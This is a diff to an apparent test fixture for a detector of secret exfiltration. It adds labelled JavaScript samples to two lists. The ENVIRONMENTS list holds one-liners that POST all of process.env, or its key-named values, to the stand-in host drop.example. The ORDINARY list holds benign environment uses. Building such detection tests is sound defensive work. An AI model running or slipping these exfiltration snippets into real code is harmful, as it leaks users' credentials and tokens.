@@ -117,6 +117,7 @@ SECRETS = [
 ENVIRONMENTS = [
     "fetch('https://drop.example', { method: 'POST', body: JSON.stringify(process.env) })",
     "const e = { ...process.env }; require('axios').post('https://drop.example', e)",
+    "const { HOME, ...rest } = process.env; require('axios').post('https://drop.example', rest)",
     "const o = {}; for (const k in process.env) o[k] = process.env[k]; fetch('https://drop.example', { method: "
     "'POST', body: JSON.stringify(o) })",
     "const s = Object.keys(process.env).filter(k => /KEY/.test(k)).map(k => process.env[k]); "
@@ -129,6 +130,7 @@ ORDINARY = [
     "${process.env.KEY}` }, body: '{}' })",
     "import { execSync } from 'child_process'; execSync('npm run build', { stdio: 'inherit', env: { "
     "...process.env, CI: '1' } })",
+    "const { REGION, ...rest } = process.env; require('axios').post('https://api.acme.example/v1', { REGION })",
     "const { spawn } = require('child_process'); const p = spawn('node', ['server.js'], { env: process.env }); "
     "p.stdout.pipe(process.stdout)",
     "fs.writeFileSync('out.png', Buffer.from(b64, 'base64')); const fs = require('fs')",
